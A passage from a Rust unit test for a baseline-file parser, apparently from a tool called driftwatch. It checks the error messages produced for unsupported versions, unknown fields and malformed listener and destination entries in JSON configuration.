            msg.starts_with(
                "baseline file /etc/driftwatch/b.json: 1 problem:\n/etc/driftwatch/b.json:2:"
            ),
            "{msg}"
        );
        assert!(!msg.contains(" at line "), "{msg}");

        assert_eq!(
            diags("{\n  \"version\": 7}"),
            [
                "/etc/driftwatch/b.json:2:3: version 7 is not supported (this driftwatch reads version 1)"
            ]
        );

        let e = BaselineFile::parse("{\"version\": 1, \"imagez\": {}}", p).unwrap_err();
        assert!(e.to_string().contains("unknown field `imagez`"), "{e}");

        let bad = r#"{"version": 1, "images": {"sha256:x": {
            "listeners": ["80/tcp", "http", "70000/tcp", "53/sctp"],
            "destinations": ["10.0.0.1:5432/tcp", "10.0.0.1/tcp", "::1:53/udp", "[::1]:53/udp"]}}}"#;
        let e = BaselineFile::parse(bad, p).unwrap_err();
        let msg = e.to_string();
        assert!(msg.contains(": 5 problems:"), "{msg}");
        for needle in ["`http`", "`70000`", "`sctp`", "`10.0.0.1`", "`::1:53`"] {
            assert!(msg.contains(needle), "{needle} not in {msg}");
        }
        let got = diags(bad);
        assert!(
            got[0].starts_with("/etc/driftwatch/b.json:2:37: image sha256:x: listener `http`"),
            "{got:?}"
        );
        assert!(
            got[4].starts_with(
                "/etc/driftwatch/b.json:3:67: image sha256:x: destination `::1:53/udp`"
            ),
            "{got:?}"
        );
    }
}
